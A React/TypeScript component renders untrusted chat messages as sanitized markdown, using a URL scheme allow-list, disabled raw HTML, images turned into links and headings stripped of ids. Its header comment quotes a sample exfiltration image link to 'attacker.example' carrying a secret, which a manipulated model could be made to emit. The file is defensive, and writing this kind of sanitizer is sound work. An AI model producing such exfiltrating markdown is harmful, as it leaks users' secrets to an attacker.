'use client';

import { Fragment, memo, type ComponentProps, type ReactNode } from 'react';
import { compiler, type MarkdownToJSX } from 'markdown-to-jsx';
import { splitMarkdownBlocks } from './markdown-blocks';
import styles from './conversation.module.css';

/**
 * Messages are untrusted (people and models write them). markdown-to-jsx turns them into React
 * elements only — no HTML string, no innerHTML — and with `disableParsingRawHTML` raw HTML
 * (`<script>`, `<img onerror>`) shows as the characters people typed.
 *
 * - Links: only http:, https:, mailto: and relative URLs (`safeUrl`). The library's default
 *   sanitizer refuses javascript:/vbscript:/data: but lets `data:image/…` through, so we pass our
 *   own allow-list; an unsafe link keeps its text and loses its href (an `<a>` without href is
 *   not a link). Links open in a new tab with `rel="noopener noreferrer nofollow"`.
 * - Images become links to the image: nothing is fetched by merely reading a message (a model
 *   can be talked into writing `![](https://attacker.example/?q=<secret>)`).
 * - Headings get no `id` (message text must not name elements of the page).
 */

const REL = 'noopener noreferrer nofollow';
const SAFE_SCHEMES = new Set(['http', 'https', 'mailto']);

/**
 * The URL itself when it may be a link, else null. Browsers ignore control characters and
 * whitespace inside a scheme ("java\tscript:"), so those are removed before the check.
 */
export function safeUrl(value: string): string | null {
  const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(value.replace(/[\u0000-\u0020\u007f]/g, ''));
  return scheme && !SAFE_SCHEMES.has((scheme[1] ?? '').toLowerCase()) ? null : value;
}

/** An image in a message: a link to it, labelled with its alt text. */
function ImageLink({ src, alt, title }: ComponentProps<'img'>) {
  const label = alt || 'Image';
  return typeof src === 'string' && src ? (
    <a href={src} title={title} target="_blank" rel={REL}>
      {label}
    </a>
  ) : (
    <span>{label}</span>
  );
}

const noId = { props: { id: undefined } };

const OPTIONS: MarkdownToJSX.Options = {
  disableParsingRawHTML: true,
  // A heading needs a space after its #s, as in CommonMark: "#1 priority" and "#hashtags" are text.
  enforceAtxHeadings: true,
  // Always blocks (a one-line message is a paragraph too), side by side in the bubble.
  forceBlock: true,
  wrapper: Fragment,
  sanitizer: (value) => safeUrl(value),
  overrides: {
    a: { props: { target: '_blank', rel: REL } },
    img: { component: ImageLink },
    h1: noId,
    h2: noId,
    h3: noId,
    h4: noId,
    h5: noId,
    h6: noId,
  },
};

/** One top-level block, memoized on its text: it parses again only when its own text changes. */
const MarkdownBlock = memo(function MarkdownBlock({ text }: { text: string }) {
  return compiler(text, OPTIONS);
});

/**
 * A message's markdown, rendered block by block (`splitMarkdownBlocks`): a streamed token
 * re-parses and re-renders the reply's last block only, whatever the reply's length
 * (measured by `npm run bench -- render`). Memoized on the text, so a row re-rendering for
 * other reasons (status, measuring) does not split again.
 *
 * `caret` (a streaming reply's) goes at the end of the last paragraph, inside a wrapper holding
 * only the last block: the CSS that puts it on that paragraph's last line then looks at the
 * wrapper's two or three children, not at the reply's. A rule like `p:nth-last-child(2)` on the
 * reply's own blocks made Chromium restyle every paragraph of the reply each time a block was
 * added (`npm run bench -- render`).
 */
export const Markdown = memo(function Markdown({ content, caret }: { content: string; caret?: ReactNode }) {
  const blocks = splitMarkdownBlocks(content);
  const tail = caret === undefined ? null : (blocks.pop() ?? '');
  // One shape whether or not a caret is shown, so the blocks above keep their DOM when it goes.
  return (
    <>
      {blocks.map((block, index) => (
        <MarkdownBlock key={index} text={block} />
      ))}
      {tail !== null && (
        <div className={styles.streamingTail}>
          <MarkdownBlock text={tail} />
          {caret}
        </div>
      )}
    </>
  );
});
